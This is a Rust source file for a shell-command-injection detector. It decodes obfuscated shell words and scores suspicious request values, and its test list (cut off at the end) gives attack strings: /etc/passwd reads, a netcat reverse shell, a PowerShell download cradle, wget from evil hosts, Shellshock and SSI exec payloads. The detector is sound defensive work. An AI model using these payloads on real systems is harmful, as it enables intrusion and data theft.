    // Redirections typical of injected commands.
    for frag in if t.contains('>') || super::textscan::find_lit!(s, b"</").is_some() { &["2>&1", ">/dev/null", "> /dev/null", ">&/dev/", "</dev/"][..] } else { &[][..] } {
        if let Some(at) = memchr::memmem::find(s, frag.as_bytes()) {
            push_once(out, since, hit("rce.redirection", CLASS, 3, 2, snippet(t, at, at + 40)));
            break;
        }
    }
}

/// The value has room for a command line after its first word: a blank, an expansion,
/// an escape, a quote or a separator. (Shared with the class gate's `command_start`.)
fn leading_room(s: &[u8]) -> bool {
    s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$' | b'\\' | b'[' | b'\'' | b';' | b'|' | b'&' | b'`'))
}

/// A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
/// (Only values with an argument after the first word, or opening with a quote.)
fn leading_command(t: &str, prose: bool, out: &mut Vec<Hit>, since: usize) {
    let s = t.as_bytes();
    if !prose && (leading_room(s) || matches!(s.first(), Some(b'\'' | b'"'))) {
        // A quote first (`' whoami`) breaks out of a quoted argument.
        let quoted = matches!(s.first(), Some(b'\'' | b'"'));
        let start = if quoted { 1 } else { 0 };
        if let Some(cmd) = command_at(s, start) {
            // `ansible-vault decrypt x`: a tool no prose names, with arguments; `c'a't x`,
            // `\ls`: a word spelt for a shell.
            let distinct_line = cmd.distinct && !cmd.ends_value && !host_only(s, start, cmd.end);
            if cmd.args_shellish && (cmd.strength != Strength::Weak || cmd.args_strong) && !host_only(s, start, cmd.end) || distinct_line || cmd.obfuscated {
                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
            } else if cmd.args_shellish {
                push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
            } else if cmd.strength == Strength::Strong && cmd.ends_value && (quoted || cmd.then_separator && start == 0 && cmd.end >= 4 && !host_only(s, start, cmd.end)) {
                // `' whoami`, `uname|`: a command closed by a separator and nothing else.
                // (Not two-letter names: `id;`, `ls|` are also field lists.)
                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
            }
        }
}
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Chain,
    Newline,
    Subst,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Strength {
    Strong,
    Weak,
    /// `/???/c?t`: a path made of glob characters.
    Glob,
}

struct Cmd {
    strength: Strength,
    /// The arguments look like shell arguments (options, paths, variables, numbers...).
    args_shellish: bool,
    /// Nothing but blanks/quotes/comment after the command word.
    ends_value: bool,
    /// A separator follows directly (`;id;`).
    then_separator: bool,
    /// A `)` follows (end of a `$(..)` substitution).
    then_close: bool,
    /// The first argument only makes sense to a shell: a drive root (`C:\\`), an admin
    /// tool's verb (`net user`), a command name after `which`, a bare number after `sleep`.
    args_strong: bool,
    /// The word is spelt the way only a shell reads it (`w'h'oami`, `$u wget`, `\\ls`).
    obfuscated: bool,
    /// A tool name no prose uses (`ansible-vault`, `cscli`, `c99`): any argument will do.
    distinct: bool,
    end: usize,
}

/// True for the blank forms a shell accepts: `${IFS}`, `$IFS` (not `$IFSX`), `$IFS$9`.
fn has_ifs(t: &str) -> bool {
    let b = t.as_bytes();
    let mut from = 0;
    while let Some(at) = t.get(from..).and_then(|r| r.find('$')).map(|o| o + from) {
        let rest = b.get(at + 1..).unwrap_or_default();
        let braced = rest.len() >= 4 && rest.get(..4).is_some_and(|w| w.eq_ignore_ascii_case(b"{ifs"));
        let bare = rest.get(..3).is_some_and(|w| w == b"IFS");
        if braced || bare {
            return true;
        }
        from = at + 1;
    }
    false
}

/// Reads one shell word starting at `i` (after blanks), de-obfuscated and lower-cased.
/// Returns the word and the index after it.
fn read_word(s: &[u8], i: usize) -> (String, usize) {
    // An unset variable (`$u cat`) expands to nothing: the command is the next word.
    let mut at = i;
    for _ in 0..3 {
        let (w, end) = read_word_once(s, at);
        if !w.is_empty() || end == at || !s.get(at..end).is_some_and(|r| r.contains(&b'$')) {
            return (w, end);
        }
        at = end;
    }
    (String::new(), at)
}

fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
    // Leading blanks, grouping and negation.
    loop {
        match s.get(i) {
            Some(b' ' | b'\t' | b'{' | b'(' | b'!' | b'+') => i += 1,
            Some(b'$') if ifs_len(s, i) > 0 => i += ifs_len(s, i),
            _ => break,
        }
    }
    let mut w = String::new();
    while let Some(&c) = s.get(i) {
        if w.len() >= 64 {
            break;
        }
        match c {
            b'\\' => {
                // `c\\a\\t`: a run of backslashes (one per unescaping layer) escapes the
                // character after it.
                while s.get(i + 1) == Some(&b'\\') && s.get(i + 2).is_some() {
                    i += 1;
                }
                if let Some(&n) = s.get(i + 1) {
                    if n != b'\n' && !n.is_ascii_whitespace() {
                        w.push(n.to_ascii_lowercase() as char);
                    }
                }
                i += 2;
            }
            b'\'' | b'"' => i += 1,
            // `[u]name`, `/[e//]tc`: a bracket glob matching one character is that
            // character; a wider class (`[a-z]`, `[!x]`) matches like `?`.
            b'[' if bracket_glob(s, i).is_some() => {
                if let Some((c1, len)) = bracket_glob(s, i) {
                    w.push(c1.to_ascii_lowercase() as char);
                    i += len;
                }
            }
            b'$' => {
                if ifs_len(s, i) > 0 {
                    break;
                }
                match s.get(i + 1) {
                    Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
                    // `pi$()ng`: an empty command substitution.
                    Some(b'(') if s.get(i + 2) == Some(&b')') => i += 3,
                    Some(b'{') => {
                        let close = s.get(i..).and_then(|r| r.iter().take(40).position(|&x| x == b'}'));
                        match close {
                            Some(c) => i += c + 1,
                            None => break,
                        }
                    }
                    Some(x) if x.is_ascii_alphabetic() || *x == b'_' => {
                        // `$u` (unset variable, expands to nothing) inside a word.
                        i += 1;
                        while s.get(i).is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'_') {
                            i += 1;
                        }
                    }
                    _ => break,
                }
            }
            // ``pi``ng``: an empty backtick substitution.
            b'`' if s.get(i + 1) == Some(&b'`') && !w.is_empty() => i += 2,
            // `+` is a blank once a URL is decoded (`;cat+/etc/passwd`).
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b',' | b'}' | b'+' | 0 => break,
            _ => {
                w.push(c.to_ascii_lowercase() as char);
                i += 1;
            }
        }
    }
    (w, i)
}

/// `alias x=curl`: an alias for a known command anywhere; `alias -g a=b` as a command
/// (opening the value or after a separator) whatever it aliases.
fn alias(t: &str, out: &mut Vec<Hit>, since: usize) {
    let s = t.as_bytes();
    if let Some(at) = find_ci(t, "alias").filter(|_| t.contains('=')) {
        let rest = t.get(at + 5..).unwrap_or_default().trim_start_matches([' ', '+', '\t']);
        if let Some(eq) = rest.find('=').filter(|&e| e > 0 && e < 32) {
            let val = rest.get(eq + 1..).unwrap_or_default().as_bytes();
            if super::textscan::word_start(s, at) && command_at(val, 0).is_some() {
                push_once(out, since, hit("rce.alias-command", CLASS, 5, 1, snippet(t, at, at + 60)));
            }
        }
        if alias_definition(s, at) {
            push_once(out, since, hit("rce.alias-command", CLASS, 5, 1, snippet(t, at, at + 60)));
        }
    }
}

/// `alias [-opts|+opts] name=value` where a command starts (value start or after a
/// separator): a shell builtin defining an alias.
fn alias_definition(s: &[u8], at: usize) -> bool {
    let before = s.get(..at).unwrap_or_default().iter().rev().find(|c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"')).copied();
    if !matches!(before, None | Some(b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'{')) || !s.get(at..at + 5).is_some_and(|w| w.eq_ignore_ascii_case(b"alias")) {
        return false;
    }
    let mut j = at + 5;
    if !matches!(s.get(j), Some(b' ' | b'\t' | b'+')) {
        return false;
    }
    // Blanks and option words (`-gmr`, `+m`, `+g+`).
    for _ in 0..6 {
        while matches!(s.get(j), Some(b' ' | b'\t')) {
            j += 1;
        }
        match s.get(j) {
            Some(b'-' | b'+') if s.get(j + 1).is_some_and(u8::is_ascii_alphabetic) => {
                j += 1;
                while s.get(j).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'+') {
                    j += 1;
                }
            }
            Some(b'+') => j += 1,
            _ => break,
        }
    }
    // name=
    let q = matches!(s.get(j), Some(b'\'' | b'"'));
    if q {
        j += 1;
    }
    let n0 = j;
    while s.get(j).is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')) && j - n0 < 32 {
        j += 1;
    }
    if q && matches!(s.get(j), Some(b'\'' | b'"')) {
        j += 1;
    }
    j > n0 && s.get(j) == Some(&b'=') && s.get(j + 1).is_some_and(|c| !c.is_ascii_whitespace())
}

/// Only blanks and quotes before `i`: a separator that opens the value.
fn at_value_start(s: &[u8], i: usize) -> bool {
    s.get(..i).is_some_and(|p| p.iter().all(|c| matches!(c, b' ' | b'\t' | b'\'' | b'"')))
}

/// Length of an IFS blank at `i` (`${IFS}`, `$IFS$9`, `$IFS`), or 0.
fn ifs_len(s: &[u8], i: usize) -> usize {
    let rest = s.get(i..).unwrap_or_default();
    if rest.len() >= 6 && rest.get(..6).is_some_and(|w| w.eq_ignore_ascii_case(b"${ifs}")) {
        return 6;
    }
    if rest.get(..4) == Some(b"$IFS") {
        if rest.get(4) == Some(&b'$') && rest.get(5).is_some_and(|c| c.is_ascii_digit()) {
            return 6;
        }
        return 4;
    }
    0
}

/// A shell bracket glob at `i` (`[s]`, `[p//]`, `[a-z]`, `[!x]`): the character it stands
/// for (`?` for a class of several) and its length.
fn bracket_glob(s: &[u8], i: usize) -> Option<(u8, usize)> {
    if s.get(i) != Some(&b'[') {
        return None;
    }
    let inner_len = s.get(i + 1..)?.iter().take(17).position(|&c| c == b']')?;
    let inner = s.get(i + 1..i + 1 + inner_len)?;
    let alnum = inner.iter().filter(|c| c.is_ascii_alphanumeric()).count();
    if alnum == 1 && inner.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'/') {
        // (`/` never matches inside a bracket: `[p//]` is `p`.)
        return inner.iter().find(|c| c.is_ascii_alphanumeric()).map(|&c| (c, inner_len + 2));
    }
    let class = inner.len() >= 2
        && alnum >= 1
        && inner.iter().enumerate().all(|(k, &c)| c.is_ascii_alphanumeric() || c == b'-' && k > 0 || matches!(c, b'!' | b'^') && k == 0);
    class.then_some((b'?', inner_len + 2))
}

/// The raw bytes of a command word spell it in a way only a shell reads as that word:
/// a quote or backslash inside it, an empty expansion (`$u`, `${x}`, `$@`) before or in
/// it, a bracket glob. (A word quoted as a whole, `'rmt'`, is not.)
fn obfuscated_word(raw: &[u8]) -> bool {
    let raw = raw.iter().position(|c| !matches!(c, b' ' | b'\t' | b'+' | b'{' | b'(' | b'!')).and_then(|k| raw.get(k..)).unwrap_or_default();
    // (Two quotes at least: one between letters is an English contraction, `I'd`.)
    let quotes = raw.iter().take_while(|c| !c.is_ascii_whitespace()).filter(|c| matches!(c, b'\'' | b'"')).count();
    let inner_quote = quotes >= 2 && raw.iter().enumerate().any(|(k, &c)| {
        matches!(c, b'\'' | b'"') && k > 0 && raw.get(k - 1).is_some_and(|p| p.is_ascii_alphanumeric()) && raw.get(k + 1).is_some_and(|n| n.is_ascii_alphanumeric() || matches!(n, b'\'' | b'"'))
    }) || raw.windows(2).any(|w| matches!(w, [b'\'', b'\''] | [b'"', b'"']));
    let escaped = raw.windows(2).any(|w| w.first() == Some(&b'\\') && w.get(1).is_some_and(|c| c.is_ascii_alphabetic()));
    let empty_expansion = raw.windows(2).any(|w| w.first() == Some(&b'$') && w.get(1).is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'@' | b'*' | b'{' | b'(')) || w == b"``");
    let glob = raw.iter().enumerate().any(|(k, _)| bracket_glob(raw, k).is_some_and(|(c, _)| c != b'?'));
    inner_quote || escaped || empty_expansion || glob
}

/// The command word at `i`, if it names a known command.
fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
    let (word, end) = read_word(s, i);
    if word.is_empty() {
        return None;
    }
    // `VAR=value` assignments and URLs are not command words.
    if word.contains('=') || word.contains("://") {
        return None;
    }
    let mut name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
    // `bcdboot/r`, `ipconfig/all`: a Windows command with its switch glued on.
    if !word.starts_with(['/', '.', '~']) && !is_strong(name) && !is_weak(name) {
        if let Some((head, switch)) = word.split_once('/') {
            if is_strong(head.strip_suffix(".exe").unwrap_or(head)) && (1..=8).contains(&switch.len()) && switch.bytes().all(|c| c.is_ascii_alphanumeric() || c == b':') && !switch.contains('/') {
                name = head;
            }
        }
    }
    let name = name.strip_suffix(".exe").unwrap_or(name);
    // `python3.10`, `php7.4`: an interpreter with its version glued on.
    let versioned = {
        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        base.len() < name.len() && matches!(base, "python" | "perl" | "php" | "ruby" | "lua" | "node" | "gcc" | "pip" | "java" | "bash")
    };
    // SQLite's shell escapes (`.shell nc -e sh ..`, `.system id`) running a command.
    let sqlite_escape = word.starts_with('.')
        && matches!(word.trim_start_matches('.').trim_matches(['"', '\'']), "shell" | "system" | "sh")
        && command_at(s, end).is_some_and(|c| c.strength != Strength::Weak || c.args_shellish);
    let strength = if sqlite_escape {
        Strength::Strong
    } else if (word.contains('?') || word.contains('*')) && word.starts_with('/') && glob_path(&word) {
        Strength::Glob
    } else if is_strong(name) || versioned || (word.contains('/') && is_weak(name) && word.starts_with('/')) {
        Strength::Strong
    } else if is_weak(name) {
        Strength::Weak
    } else if PS_VERBS.iter().any(|v| name.starts_with(v) && name.len() > v.len() + 2 && name.bytes().all(|b| b.is_ascii_alphabetic() || b == b'-')) {
        Strength::Strong
    } else {
        return None;
    };
    // `{cat,/etc/passwd}`: in a brace expansion the comma separates the arguments.
    let brace = s.get(i..end).is_some_and(|r| r.iter().take_while(|c| !c.is_ascii_alphanumeric() && **c != b'\\').any(|&c| c == b'{'));
    // What follows the word.
    let mut j = end;
    loop {
        match s.get(j) {
            Some(b' ' | b'\t' | b'+') => j += 1,
            Some(b',') if brace && j == end => j += 1,
            Some(b'$') if ifs_len(s, j) > 0 => j += ifs_len(s, j),
            _ => break,
        }
    }
    let rest = s.get(j..).unwrap_or_default();
    let followed_by_eq = s.get(end) == Some(&b'=');
    let ends_value = rest.iter().all(|&c| matches!(c, b' ' | b'\t' | b'\'' | b'"' | b'`' | b';' | b'#' | b'&' | b'|' | b'\n' | b'\r' | b'\0'))
        || rest.first() == Some(&b'#')
        || rest.starts_with(b"//")
        || rest.starts_with(b"%00");
    let then_separator = rest.first().is_some_and(|&c| matches!(c, b';' | b'|' | b'&' | b'`' | b'\n'));
    let then_close = rest.first() == Some(&b')');
    let first = rest.first().copied();
    let args_shellish = match first {
        Some(b'-' | b'/' | b'.' | b'~' | b'$' | b'%' | b'>' | b'<' | b'\\' | b'*') => {
            // `- ` alone (a dash in prose) is not an option.
            !(first == Some(b'-') && rest.get(1).is_none_or(|c| c.is_ascii_whitespace()))
        }
        Some(c) if c.is_ascii_digit() => true,
        Some(b'\'' | b'"') => true,
        Some(_) if raw_token(rest).windows(2).any(|w| w == b"$(" || w == b"${") || raw_token(rest).contains(&b'`') => true,
        Some(_) => {
            let (arg, arg_end) = read_word(s, j);
            let drive = arg.as_bytes().get(1) == Some(&b':') && arg.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
            let rest_blank = s.get(arg_end..).is_none_or(|r| r.iter().all(|c| c.is_ascii_whitespace()));
            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg, rest_blank) || SENSITIVE_ARGS.contains(&arg.as_str())
        }
        None => false,
    } && end > i;
    let args_strong = args_shellish && {
        let (arg, arg_end) = read_word(s, j);
        let a = arg.as_bytes();
        let drive = a.len() >= 2 && a.first().is_some_and(|c| c.is_ascii_alphabetic()) && a.get(1) == Some(&b':') && matches!(a.get(2), None | Some(b'\\' | b'/'))
            || rest.get(..3).is_some_and(|r| r.first().is_some_and(|c| c.is_ascii_alphabetic()) && r.get(1) == Some(&b':') && r.get(2) == Some(&b'\\'));
        let after_arg = s.get(arg_end..).unwrap_or_default();
        let only_number = !a.is_empty() && a.iter().all(|c| c.is_ascii_digit()) && after_arg.iter().all(|c| c.is_ascii_whitespace());
        drive
            || SENSITIVE_ARGS.iter().any(|f| arg == *f || arg.ends_with(&format!("/{f}")))
            || subcommand(name, &arg, after_arg.iter().all(|c| c.is_ascii_whitespace())) && !(name == "net" && matches!(arg.as_str(), "use" | "start" | "stop" | "group" | "config"))
            || name == "sleep" && only_number
    };
    // A word directly glued to letters (`setup`, `category`) or a `name=value` pair is
    // not this command.
    let glued = s.get(end).is_some_and(|c| c.is_ascii_alphanumeric());
    if glued || followed_by_eq {
        return None;
    }
    // `ansible all -m ping`: an option among the next few words.
    let args_shellish = args_shellish || end > i && option_among_next_words(s, j) || sqlite_escape;
    let obfuscated = obfuscated_word(s.get(i..end).unwrap_or_default());
    // (Its arguments after a blank, and not English: `whoami is a command` is prose.)
    let distinct = strength == Strength::Strong && is_distinct(name) && j > end && !english_words_next(s, j);
    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, args_strong, obfuscated, distinct, end })
}

/// A `FOR ... %v IN (...) DO` loop or an `IF` statement in cmd.exe syntax. Returns the
/// score and offset.
fn batch_statement(t: &str) -> Option<(u32, usize)> {
    use super::textscan::contains_ci;
    let for_gate = t.contains('%') && contains_ci(t, "for") && contains_ci(t, "do");
    let if_gate = contains_ci(t, "if")
        && (t.contains('%') || t.contains("==") || BATCH_IF_WORDS.iter().any(|k| contains_ci(t, k)));
    if !for_gate && !if_gate {
        return None;
    }
    let lower = t.get(..super::textscan::floor_char(t, 2048)).unwrap_or(t).to_ascii_lowercase();
    let b = lower.as_bytes();
    let words = |from: usize| -> Vec<(usize, &str)> {
        let mut v = Vec::new();
        let mut i = from;
        while v.len() < 24 {
            while b.get(i).is_some_and(|c| c.is_ascii_whitespace() || *c == b'+') {
                i += 1;
            }
            if i >= b.len() {
                break;
            }
            let start = i;
            while b.get(i).is_some_and(|c| !c.is_ascii_whitespace() && *c != b'+') {
                i += 1;
            }
            v.push((start, lower.get(start..i).unwrap_or_default()));
        }
        v
    };
    let mut from = 0;
    while let Some(at) = lower.as_bytes().get(from..).and_then(|r| super::textscan::find_lit!(r, b"for")).map(|o| o + from) {
        from = at + 3;
        if !super::textscan::word_start(b, at) || !super::textscan::word_end(b, at + 3) {
            continue;
        }
        let ws = words(at + 3);
        // Skip switches and the options string to the loop variable.
        // (`%%` alone, its letter lost, still names the loop variable before `IN`.)
        let var = ws.iter().enumerate().position(|(k, (_, w))| {
            w.starts_with('%') && w.len() <= 20 && w.len() >= 2 && (!w.ends_with('%') || *w == "%%" && ws.get(k + 1).is_some_and(|(_, n)| *n == "in"))
        });
        if let Some(vi) = var {
            let rest: Vec<&str> = ws.iter().skip(vi + 1).map(|(_, w)| *w).collect();
            let has_in = rest.first().is_some_and(|w| *w == "in" || w.starts_with("in("));
            let has_do = rest.iter().any(|w| *w == "do" || w.ends_with(")do") || w.starts_with("do"));
            if has_in && has_do && lower.get(at..).is_some_and(|r| r.contains('(') && r.contains(')')) {
                return Some((5, at));
            }
        }
    }
    let mut from = 0;
    while let Some(at) = lower.as_bytes().get(from..).and_then(|r| super::textscan::find_lit!(r, b"if")).map(|o| o + from) {
        from = at + 2;
        if !super::textscan::word_start(b, at) || !super::textscan::word_end(b, at + 2) {
            continue;
        }
        let ws = words(at + 2);
        let mut k = 0;
        while k < 2 && ws.get(k).is_some_and(|(_, w)| *w == "not" || *w == "/i") {
            k += 1;
        }
        let Some((_, first)) = ws.get(k) else { continue };
        let cond_kw = matches!(*first, "exist" | "defined" | "errorlevel" | "cmdextversion");
        let cmp = ws.iter().skip(k).take(4).any(|(_, w)| matches!(*w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq") || w.contains("=="));
        // `a==b` glued is one word: condition and command then need two.
        let glued_cmp = first.contains("==");
        let enough = ws.len() >= k + if glued_cmp { 2 } else { 3 };
        let has_var = lower.get(at..).is_some_and(|r| r.contains('%') || r.contains('!'));
        if (cond_kw || cmp) && enough {
            // What follows the condition: a command, a block, or `goto`.
            let operands = match *first {
                "exist" | "defined" | "errorlevel" | "cmdextversion" => 2,
                _ if glued_cmp => 1,
                _ => 3,
            };
            let then = ws.get(k + operands).map(|(_, w)| *w).unwrap_or_default();
            let then = then.trim_start_matches(['(', '@']);
            let then_cmd = ws.get(k + operands).is_some_and(|(_, w)| w.starts_with('('))
                || matches!(then, "goto" | "set" | "echo" | "call" | "exit" | "del" | "copy" | "move" | "start" | "cmd" | "if" | "not" | "type" | "ren" | "md" | "rd" | "cd" | "pause" | "shift" | "...")
                || is_strong(then);
            let score = if has_var || cmp && cond_kw || then_cmd || glued_cmp || first.starts_with('%') || first.starts_with('"') || first.starts_with('[') || first.starts_with('(') { 5 } else { 3 };
            return Some((score, at));
        }
    }
    None
}

/// The raw text up to the next blank.
fn raw_token(rest: &[u8]) -> &[u8] {
    let n = rest.iter().take(128).position(|c| c.is_ascii_whitespace()).unwrap_or(rest.len().min(128));
    rest.get(..n).unwrap_or_default()
}

/// A command name that is proof on its own (`whoami`, `uname`; not English words), for
/// other detectors that find a command line inside another language (`system(whoami)`).
pub(crate) fn is_command_name(word: &str) -> bool {
    word.len() <= 32 && is_strong(&word.to_ascii_lowercase())
}

fn is_strong(name: &str) -> bool {
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    SET.get_or_init(|| STRONG.iter().copied().collect()).contains(name)
}

/// A strong name no prose uses: hyphenated or numbered tool names, or listed.
fn is_distinct(name: &str) -> bool {
    name.len() >= 3 && name.bytes().any(|c| c == b'-' || c == b'_' || c.is_ascii_digit()) && name.bytes().next().is_some_and(|c| c.is_ascii_alphabetic()) || DISTINCT.contains(&name)
}

/// Words of English sentences that no command line has among its first arguments.
const FUNCTION_WORDS: &[&str] = &[
    "is", "are", "was", "were", "be", "a", "an", "the", "of", "in", "on", "for", "to", "and", "or", "not", "does", "do",
    "will", "can", "command", "tool", "shows", "prints", "returns", "lists", "means", "with", "how", "what", "why",
];

/// One of the next four words from `j` (before any separator) is an English function word.
fn english_words_next(s: &[u8], j: usize) -> bool {
    let rest = s.get(j..).unwrap_or_default();
    let rest = rest.get(..rest.len().min(96)).unwrap_or_default();
    let line = rest.iter().position(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')')).and_then(|e| rest.get(..e)).unwrap_or(rest);
    line.split(|c| c.is_ascii_whitespace() || *c == b'+').filter(|w| !w.is_empty()).take(4).any(|w| FUNCTION_WORDS.iter().any(|f| f.as_bytes().eq_ignore_ascii_case(w)))
}

/// An option (`-m`, `--version`) among the next four words from `j`, before any separator.
fn option_among_next_words(s: &[u8], j: usize) -> bool {
    let rest = s.get(j..).unwrap_or_default();
    let rest = rest.get(..rest.len().min(96)).unwrap_or_default();
    let line = rest.iter().position(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')')).and_then(|e| rest.get(..e)).unwrap_or(rest);
    line.split(|c| c.is_ascii_whitespace() || *c == b'+').filter(|w| !w.is_empty()).take(4).any(|w| match w {
        [b'-', b'-', c, ..] | [b'-', c, ..] => c.is_ascii_alphabetic(),
        _ => false,
    })
}

fn is_weak(name: &str) -> bool {
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    SET.get_or_init(|| WEAK.iter().copied().collect()).contains(name)
}

/// Windows admin tools whose first argument is a verb (`net user`, `sc query`).
fn subcommand(cmd: &str, arg: &str, rest_blank: bool) -> bool {
    match cmd {
        "net" | "net1" => matches!(arg, "user" | "users" | "localgroup" | "view" | "use" | "share" | "session" | "accounts" | "group" | "config" | "start" | "stop"),
        "sc" => matches!(arg, "query" | "create" | "start" | "stop" | "config" | "delete" | "qc"),
        "reg" => matches!(arg, "query" | "add" | "delete" | "export" | "save"),
        "cmd" => matches!(arg, "/c" | "/k"),
        // `which nc`, alone: asking the shell where a tool is.
        "which" | "whereis" => is_strong(arg) && rest_blank,
        // `time ifconfig`, `nohup whoami`: a prefix command running another one.
        "time" | "nohup" | "strace" | "ltrace" | "sudo" | "doas" | "nice" | "ionice" | "env" | "timeout" | "stdbuf" | "setsid" | "xargs" | "exec" | "command" | "builtin" | "watch" | "chroot" => {
            is_strong(arg) && rest_blank && !matches!(arg, "id" | "ls" | "sh" | "nc" | "ping" | "pwd" | "cmd" | "reg" | "perf")
        }
        "netsh" => matches!(arg, "firewall" | "advfirewall" | "interface" | "int" | "wlan" | "winsock" | "http" | "dump" | "routing" | "winhttp" | "ipsec"),
        _ => false,
    }
}

/// Offset of a `pre{a,b}post` brace expansion whose words form a command line: a
/// strong command first, or a weak one with an option or path argument (or alone, when
/// the value is nothing but the expansion).
fn brace_command(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    let mut tries = 0;
    while let Some(open) = s.get(from..).and_then(|r| memchr::memchr(b'{', r)).map(|o| o + from) {
        from = open + 1;
        tries += 1;
        if tries > 16 {
            break;
        }
        if open > 0 && s.get(open - 1) == Some(&b'$') {
            continue;
        }
        let inner_len = s.get(open + 1..)?.iter().take(96).position(|&c| c == b'}')?;
        let inner = s.get(open + 1..open + 1 + inner_len)?;
        if !inner.contains(&b',') || inner.iter().any(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b':' | b'{')) {
            continue;
        }
        let is_word = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'/');
        let pre_len = s.get(..open)?.iter().rev().take_while(|c| is_word(c)).count();
        let pre = s.get(open - pre_len..open)?;
        let post_start = open + 1 + inner_len + 1;
        let post_len = s.get(post_start..).unwrap_or_default().iter().take_while(|c| is_word(c)).count();
        let post = s.get(post_start..post_start + post_len).unwrap_or_default();
        let words: Vec<String> = inner
            .split(|&c| c == b',')
            .map(|alt| {
                let mut w = pre.to_vec();
                w.extend_from_slice(alt);
                w.extend_from_slice(post);
                String::from_utf8_lossy(&w).to_ascii_lowercase()
            })
            .filter(|w| !w.is_empty())
            .collect();
        let Some(cmd) = words.first() else { continue };
        let name = cmd.rsplit('/').next().unwrap_or(cmd);
        let args_shellish = words.iter().skip(1).any(|a| a.starts_with(['-', '/', '.', '~']));
        let whole = open - pre_len == 0 && post_start + post_len >= s.len();
        if is_strong(name) || is_weak(name) && name.len() >= 3 && (args_shellish || whole) {
            return Some(open - pre_len);
        }
    }
    None
}

/// The rest of a command line after the command word is one host name or address
/// (`ping 10.0.0.1`, `nslookup example.com`): what a network-diagnostics form expects.
fn host_only(s: &[u8], start: usize, end: usize) -> bool {
    let (word, _) = read_word(s, start);
    let name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    if !matches!(name, "ping" | "ping6" | "nslookup" | "traceroute" | "tracert" | "host" | "dig" | "whois" | "telnet" | "ncat" | "nc") {
        return false;
    }
    let rest = s.get(end..).unwrap_or_default();
    let rest: Vec<u8> = rest.iter().map(|&c| if c == b'+' { b' ' } else { c }).collect();
    let words: Vec<&[u8]> = rest.split(|c| c.is_ascii_whitespace()).filter(|w| !w.is_empty()).collect();
    words.len() == 1 && words.first().is_some_and(|w| w.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b':' | b'-')) && !w.starts_with(b"-"))
}

/// `/???/c?t`, `/bin/n?`: every segment is letters and glob characters, some glob.
fn glob_path(w: &str) -> bool {
    let segs: Vec<&str> = w.split('/').filter(|x| !x.is_empty()).collect();
    segs.len() >= 2
        && segs.iter().all(|x| x.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'?' || b == b'*' || b == b'[' || b == b']'))
}

/// Free text (several words) in a body field or raw body: separators are punctuation.
fn is_prose(v: &Value<'_>) -> bool {
    if !matches!(v.part, Part::BodyValue | Part::BodyRaw) {
        return false;
    }
    let words = v.text.split_whitespace().take(12).filter(|w| w.len() >= 2 && w.bytes().all(|b| b.is_ascii_alphabetic() || b == b',' || b == b'.')).count();
    words >= 8
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(part: Part, text: &str) -> u32 {
        let mut out = Vec::new();
        scan(&Value { part, name: "cmd", text }, &mut out);
        out.iter().filter(|h| h.paranoia == 1).map(|h| h.score).sum()
    }
    fn rules(part: Part, text: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        scan(&Value { part, name: "cmd", text }, &mut out);
        out.iter().map(|h| h.rule).collect()
    }

    #[test]
    fn attacks() {
        for a in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x;id;",
            "x && whoami",
            "a`id`",
            "$(uname -a)",
            "x;c'a't /etc/passwd",
            "x;w\\ho\\am\\i",
            "x;cat${IFS}/etc/passwd",
            "a|/???/c?t /???/p??s??",
            "|| ping -c 10 127.0.0.1",
            "& dir c:\\",
            "| type C:\\boot.ini",
            "& powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x')\"",
            "x\nwget http://evil/x.sh",
            "() { :;}; /bin/bash -c 'id'",
            "';sleep 5;'",
            "$(sleep 5)",
            "&echo$IFS123$((1+2))",
            "x; Get-ChildItem C:\\",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "| net user",
            "x;ls",
            ";echo ZZKJNZ$((11+6))$(echo ZZKJNZ)ZZKJNZ",
            ";+$u+cat+/etc$u/passwd+\\#",
            ";cat+/e??/pa???d",
            "<!--#exec cmd=\"/usr/bin/id;-->",
            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
            "<!--#printenv -->",
            "<!--#config errmsg=\"x\" -->",
            "netstat -an",
            "wget https://evil.example/x.txt",
